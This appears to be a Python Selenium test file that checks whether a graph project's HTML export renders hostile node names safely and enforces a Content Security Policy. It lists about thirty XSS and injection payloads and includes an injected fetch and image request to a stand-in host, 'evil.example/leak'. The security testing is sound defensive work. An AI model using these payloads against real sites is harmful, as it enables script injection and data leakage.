"""Names that try to run, load or break something stay names."""

from __future__ import annotations

from pathlib import Path

import pytest
from selenium.common.exceptions import NoAlertPresentException
from support_browser import PageBrowser
from viewed_graph import viewed_graph

from parkgraph.loaders.html import write_html

HOME = "https://evil.example"
NAMES = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    f"<img src='{HOME}/a.png'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    f"<iframe src='{HOME}'></iframe>",
    f"<link rel=stylesheet href='{HOME}/a.css'>",
    f"<style>@import url({HOME}/b.css)</style>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    f"<meta http-equiv=refresh content='0;url={HOME}'>",
    f"<base href='{HOME}/'>",
    "<a href='javascript:alert(1)'>园区</a>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "<%= alert(1) %>",
    "#{alert(1)}",
    "__proto__",
    "constructor",
    "<!-- <script>",
    "]]></script>",
    "\u202e区业工定嘉\u202c",
    "\u0000\u0007\u001b[31m园",
    "园" * 10_000,
    "𠮷野家" + "👩‍👩‍👧‍👦" * 40 + "ﷺ" * 20,
)


@pytest.fixture(scope="module")
def hostile_page(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Every name of the golden graph replaced: names, aliases, titles, sentences, properties."""
    graph = viewed_graph()
    for number, (_, data) in enumerate(sorted(graph.nodes(data=True))):
        name = NAMES[number % len(NAMES)]
        row = data["properties"]
        if data["label"] == "Claim":
            row.update(evidence=f"前{name}后", subject_name=name, date_text=name, rule=name)
        elif data["label"] == "Document":
            row.update(title=name, publisher=name, url=f"javascript:alert('{number}')")
        elif data["label"] == "Quantity":
            row.update(text=name, scope=name, modifier=name, as_of=name)
        else:
            row.update(name=name, aliases=[name, f"{name}{number}"])
            if "kind" in row:
                row["kind"] = name
    for _, _, data in graph.edges(data=True):
        for slot in ("office", "role", "awarded_by"):
            if slot in data["properties"]:
                data["properties"][slot] = NAMES[len(slot)]
    path = tmp_path_factory.mktemp("hostile") / "hostile.html"
    write_html(graph, path, title=NAMES[1])
    return path


def test_there_are_thirty_names() -> None:
    assert len(set(NAMES)) == 30


def test_hostile_names_run_nothing_and_load_nothing(
    browser: PageBrowser, hostile_page: Path
) -> None:
    browser.forget()
    browser.open(hostile_page, "#lang=zh")
    opened = browser.script(
        "const {model, state} = window.parkgraph; let seen = 0;"
        "for (const view of ['network', 'map', 'flows', 'timeline', 'list']) state.set({view});"
        "for (let node = 0; node < model.count; node++) {"
        "  state.set({selected: node, view: 'network'});"
        "  seen += document.querySelectorAll('#panel h2').length;"
        "}"
        "state.set({ego: {node: 0, steps: 2}}); state.set({ego: null, language: 'en'});"
        "document.querySelectorAll('details').forEach((each) => (each.open = true));"
        "return [seen, model.count]"
    )
    assert opened[0] == opened[1]
    with pytest.raises(NoAlertPresentException):
        _ = browser.driver.switch_to.alert.text
    assert (
        browser.script(
            "return document.querySelectorAll('main img, aside img, iframe, base, link,"
            " [onerror], [onload], [onfocus], [ontoggle], [onmouseover]').length"
        )
        == 0
    )
    links = browser.script("return [...document.links].map((each) => each.href)")
    assert [link for link in links if link.startswith("javascript:")] == []
    browser.collect()
    assert browser.errors == []
    assert {url.partition("#")[0] for url in browser.requests} <= {
        hostile_page.as_uri(),
        "about:blank",
    }
    # The page itself is in the log, so an empty log would be a log that does not work.
    assert any(url.startswith(hostile_page.as_uri()) for url in browser.requests)


@pytest.mark.parametrize("name", [NAMES[0], NAMES[2], "${alert(1)}", "__proto__", "𠮷野家"])
def test_hostile_names_are_found_and_shown_as_they_are(
    browser: PageBrowser, hostile_page: Path, name: str
) -> None:
    if not browser.driver.current_url.startswith(hostile_page.as_uri()):
        browser.open(hostile_page, "#lang=zh")
    shown = browser.script(
        "const field = document.querySelector('header input[role=combobox]');"
        "field.value = arguments[0]; field.dispatchEvent(new Event('input'));"
        "const found = [...document.querySelectorAll('header [role=option] .name')];"
        "return found.map((each) => each.textContent)",
        name,
    )
    assert any(name[:20] in text for text in shown)


def test_policy_stops_a_script_that_got_in_anyway(browser: PageBrowser, hostile_page: Path) -> None:
    """The second fence: markup put into the page by hand neither runs nor loads."""
    browser.forget()
    browser.open(hostile_page, "#lang=zh")
    browser.script(
        "window.ran = false;"
        "const script = document.createElement('script'); script.textContent = 'window.ran = true';"
        "document.body.append(script);"
        f"const image = document.createElement('img'); image.src = '{HOME}/leak.png';"
        "document.body.append(image);"
        f"fetch('{HOME}/leak').catch(() => (window.refused = true));"
    )
    assert browser.script("return window.ran") is False
    browser.collect()
    assert any("Content Security Policy" in error for error in browser.errors)
    browser.forget()
